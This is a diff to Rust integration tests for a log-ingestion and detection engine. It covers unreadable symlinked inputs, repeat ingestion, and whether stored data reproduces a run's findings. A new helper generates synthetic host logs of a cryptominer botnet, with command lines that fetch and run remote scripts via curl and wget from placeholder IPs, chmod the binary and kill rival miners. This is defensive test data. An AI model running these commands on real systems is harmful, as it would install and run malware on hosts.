@@ -11,16 +11,20 @@ use datafusion::arrow::array::AsArray;
 use datafusion::arrow::datatypes::Int64Type;
 use datafusion::physical_plan::displayable;
 use datafusion::prelude::SessionContext;
-use ringleader_engine::Buckets;
+use ringleader_engine::assemble::Known;
 use ringleader_engine::collect::{ALL_BUCKETS, CollectConfig, Progress, Quiet, collect};
+use ringleader_engine::excerpts::Spool;
 use ringleader_engine::lake::{
     Error, IngestReport, Lake, LakeBuckets, LakeCodec, SketchFn, SketchFns, Window, ingest, sketch_merge,
 };
 use ringleader_engine::sources::Input;
+use ringleader_engine::{Buckets, Config, conclude};
+use ringleader_model::findings::RunInfo;
 use ringleader_model::hash::{hash64, hash128};
 use ringleader_model::time::TimeDefaults;
 use ringleader_model::{Context, Field, IndicatorKind, Timestamp};
 use ringleader_pipeline::collect::rows::Bucket;
+use ringleader_pipeline::label::episode::Knowledge;
 use ringleader_pipeline::merge::sketch::{EpisodeFacts, Feature, NodeFacts, Sketch};
 
 fn config() -> CollectConfig {
@@ -149,7 +153,7 @@ fn the_same_inputs_again_change_nothing() {
     assert_eq!(all(&at.buckets()), before);
     let named_twice = [Input::Path(at.logs.clone()), Input::Path(at.logs.join("a.ndjson"))];
     let again = ingest(&named_twice, &config(), &at.lake, &Quiet).unwrap();
-    assert_eq!((again.already_there, again.version), (2, first.version));
+    assert_eq!((again.already_there, again.version), (1, first.version));
     // The transaction says it too, and how much of the file it was.
     let delivered = &first.ingested[0];
     let lake = Lake::open(&at.lake).unwrap();
@@ -180,13 +184,139 @@ fn a_file_that_grew_is_read_again_under_the_same_event_ids() {
 }
 
 #[test]
-fn what_could_not_be_opened_is_told_and_not_kept() {
+fn what_could_not_be_opened_is_remembered_until_it_can_be() {
     let at = place();
-    let missing = at.logs.join("missing");
-    let report = ingest(&[Input::Path(missing.clone())], &config(), &at.lake, &Quiet).unwrap();
-    assert_eq!((report.unreadable.len(), report.commits), (1, 0));
-    assert_eq!(report.unreadable[0].name, missing.display().to_string());
-    assert!(at.buckets().sources().is_empty());
+    at.log("b.ndjson", &lines(0, 10));
+    let link = at.logs.join("a.ndjson");
+    std::os::unix::fs::symlink(at.logs.join("nowhere"), &link).unwrap();
+    let report = at.ingest();
+    assert_eq!((report.unreadable.len(), report.ingested.len(), report.commits), (1, 1, 2));
+    assert_eq!(report.unreadable[0].name, link.display().to_string());
+    // It is tried again, and told again, and stands in the lake once.
+    let again = at.ingest();
+    assert_eq!((again.unreadable.len(), again.commits, again.version), (1, 0, report.version));
+    let buckets = at.buckets();
+    let told: Vec<_> = buckets.sources().iter().map(|it| (&*it.source, it.read, it.rejected)).collect();
+    let names = [&link, &at.logs.join("b.ndjson")].map(|it| it.display().to_string());
+    assert_eq!(told, [(&*names[0], 0, 1), (&*names[1], 10, 0)]);
+    assert_eq!(&*buckets.rejected()[0].reason, "no such file or directory");
+    assert_eq!(buckets.inputs().len(), 1);
+    std::fs::remove_file(&link).unwrap();
+    at.log("a.ndjson", &lines(10, 20));
+    assert_eq!(at.ingest().events, 10);
+    let buckets = at.buckets();
+    assert_eq!(buckets.sources().iter().map(|it| (it.read, it.rejected)).collect::<Vec<_>>(), [(10, 0), (10, 0)]);
+    assert!(buckets.rejected().is_empty());
+    assert_eq!(buckets.inputs().len(), 2);
+}
+
+/// All that a run found, but for what may differ from run to run.
+fn findings(run: ringleader_engine::Run) -> String {
+    let mut findings = run.findings;
+    findings.run = RunInfo::default();
+    format!("{findings:#?}\n{:#?}", run.analyzed.health)
+}
+
+#[test]
+fn a_lake_gives_the_findings_of_a_run() {
+    let at = place();
+    fixtures(&at.logs);
+    bot(&at.logs.join("fleet"), 12);
+    at.log("fleet/half.ndjson", &format!("{}{{broken\n", lines(0, 50)));
+    at.log("fleet/unknown.bin", "nothing that anybody writes");
+    at.log("fleet/empty.log", "");
+    std::os::unix::fs::symlink(at.logs.join("nowhere"), at.logs.join("gone.log")).unwrap();
+    // Records that two files have in common.
+    std::fs::copy(at.logs.join("fleet/web03.ndjson"), at.logs.join("web03.again.ndjson")).unwrap();
+
+    let config = Config { collect: config(), processes: true, known: Known::default() };
+    let knowledge = Knowledge::built_in();
+    let inputs = [Input::Path(at.logs.clone())];
+    let local = ringleader_engine::run(&inputs, &knowledge, &config, &Quiet).unwrap();
+    assert!(!local.findings.gangs.is_empty() && local.findings.summary.events_duplicate > 0);
+    assert!(local.findings.evidence.iter().all(|it| it.excerpt.is_some()));
+    assert_eq!(local.findings.rejected.iter().filter(|it| it.source.ends_with("gone.log")).count(), 1);
+    let local = findings(local);
+
+    // In two steps, the later files first.
+    ingest(&[Input::Path(at.logs.join("fleet"))], &config.collect, &at.lake, &Quiet).unwrap();
+    ingest(&inputs, &config.collect, &at.lake, &Quiet).unwrap();
+    let whole = at.lake.with_extension("whole");
+    ingest(&inputs, &config.collect, &whole, &Quiet).unwrap();
+    for lake in [&at.lake, &whole] {
+        let buckets = Lake::open(lake).unwrap().buckets(Window::default()).unwrap();
+        let run = conclude(&buckets, &knowledge, &config, &Spool::default(), &Quiet, &mut Vec::new()).unwrap();
+        same(&findings(run), &local);
+    }
+}
+
+/// Says where two long texts part, rather than print them.
+fn same(got: &str, expect: &str) {
+    if let Some(at) = got.lines().zip(expect.lines()).position(|(a, b)| a != b) {
+        let part = |it: &str| it.lines().skip(at.saturating_sub(12)).take(20).collect::<Vec<_>>().join("\n");
+        panic!("line {at}\n{}\n--- not\n{}", part(got), part(expect));
+    }
+    assert_eq!(got.len(), expect.len());
+}
+
+/// Every format's own fixtures.
+fn fixtures(to: &Path) {
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/collect");
+    let mut n = 0;
+    for format in std::fs::read_dir(root).unwrap().map(|it| it.unwrap().path()) {
+        for file in std::fs::read_dir(&format).unwrap().map(|it| it.unwrap().path()) {
+            if file.extension().is_some_and(|it| it == "in") {
+                let folder = to.join(format.file_name().unwrap());
+                std::fs::create_dir_all(&folder).unwrap();
+                std::fs::copy(&file, folder.join(file.file_name().unwrap())).unwrap();
+                n += 1;
+            }
+        }
+    }
+    assert!(n > 40, "{n} fixtures");
+}
+
+/// Hosts on which one bot downloads itself, runs, and looks for others; on some, a process was not logged.
+fn bot(to: &Path, hosts: usize) {
+    std::fs::create_dir_all(to).unwrap();
+    for host in 0..hosts {
+        let mut log = String::new();
+        let commands = [
+            (100, 1, "/usr/sbin/sshd", "sshd: root@notty".to_owned()),
+            (101, 100, "/bin/sh", "sh -c curl -s http://192.0.2.7/x.sh -o /tmp/x.sh; sh /tmp/x.sh".to_owned()),
+            (102, 101, "/usr/bin/curl", "curl -s http://192.0.2.7/x.sh -o /tmp/x.sh".to_owned()),
+            (103, 101, "/bin/sh", "sh /tmp/x.sh".to_owned()),
+            (104, 103, "/usr/bin/wget", "wget http://198.51.100.9/.y/bot -O /tmp/.b".to_owned()),
+            (105, 103, "/bin/chmod", "chmod 777 /tmp/.b".to_owned()),
+            (106, 103, "/tmp/.b", format!("/tmp/.b -o 198.51.100.9:3333 -u w{host}")),
+            (107, 103, "/usr/bin/pkill", "pkill -9 xmrig".to_owned()),
+            (108, 1, "/usr/sbin/cron", "cron -f".to_owned()),
+        ];
+        for (n, (pid, ppid, path, line)) in commands.iter().enumerate() {
+            if host % 4 == 1 && *pid == 103 {
+                continue;
+            }
+            let second = host * 3 + n;
+            log.push_str(&format!(
+                concat!(
+                    r#"{{"id":"{}-{}","time":"2026-03-0{} 10:{:02}:{:02}.5","host":"web{:02}","file_path":"{}","#,
+                    r#""cmd_line":"{}","pid":{},"ppid":{}}}"#,
+                    "\n"
+                ),
+                host,
+                n,
+                1 + host % 3,
+                second / 60,
+                second % 60,
+                host,
+                path,
+                line,
+                pid,
+                ppid
+            ));
+        }
+        std::fs::write(to.join(format!("web{host:02}.ndjson")), log).unwrap();
+    }
 }
 
 /// Writes to the log while it is read.
